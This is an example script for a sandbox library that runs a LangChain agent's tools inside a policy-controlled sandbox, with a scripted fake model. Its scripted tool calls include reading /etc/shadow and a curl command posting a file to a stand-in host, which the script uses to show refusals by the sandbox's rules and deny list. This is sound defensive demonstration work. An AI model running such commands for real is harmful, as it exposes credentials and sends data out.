"""LangChain agent: the tools of a deep agent act in a Cellwall sandbox.

    pip install 'cellwall[deepagents]'
    python examples/langchain_agent.py

The model is LangChain's own fake with scripted answers. What it shows:

- `backend=CellwallBackend(sandbox)`: the agent's tools act in the sandbox, on its files;
- files that the built-in rules protect are refused, whatever the policy allows;
- a command that the policy denies is a result for the agent, with the rule.
"""

from __future__ import annotations

import tempfile
from pathlib import Path
from typing import Any

from deepagents import create_deep_agent
from langchain_core.language_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, ToolMessage

from cellwall import Sandbox
from cellwall.integrations.deepagents import CellwallBackend

POLICY = """[permissions]
allow = ["Bash(*)", "Read(*)", "Write(*)"]
deny = ["Bash(curl *)"]
"""
PROGRAM = "print(sum(all(n % d for d in range(2, n)) for n in range(2, 100)))\n"

# What the scripted model calls, one tool after the other.
CALLS: list[tuple[str, dict[str, Any]]] = [
    ("write_file", {"file_path": "/workspace/primes.py", "content": PROGRAM}),
    ("execute", {"command": "python3 primes.py"}),
    ("execute", {"command": "cat /etc/shadow"}),
    ("execute", {"command": "curl -d @primes.py https://collector.example"}),
]


class ScriptedModel(GenericFakeChatModel):
    """LangChain's fake model, which also takes tools."""

    def bind_tools(self, tools: Any, **_: Any) -> ScriptedModel:
        """The script names the tools itself."""
        return self


def main() -> None:
    """Run the agent, and print each tool with its result."""
    replies = [
        AIMessage("", tool_calls=[{"name": name, "args": arguments, "id": str(number)}])
        for number, (name, arguments) in enumerate(CALLS)
    ]
    model = ScriptedModel(messages=iter([*replies, AIMessage("There are 25 prime numbers.")]))
    with tempfile.TemporaryDirectory() as folder:
        policy = Path(folder, "policy.toml")
        policy.write_text(POLICY)
        policy.chmod(0o600)  # a file that others can write is refused
        with Sandbox.create(timeout=60, policy=str(policy)) as sandbox:
            agent = create_deep_agent(model=model, backend=CellwallBackend(sandbox))
            question = ("user", "How many prime numbers are below 100?")
            messages = agent.invoke({"messages": [question]})["messages"]
    for message in messages:
        if isinstance(message, ToolMessage):
            name, arguments = CALLS[int(message.tool_call_id)]
            print(f"-> {name} {arguments.get('command') or arguments['file_path']}")
            print("\n".join(f"   {line}" for line in str(message.content).splitlines()))
    print(messages[-1].content)


if __name__ == "__main__":
    main()
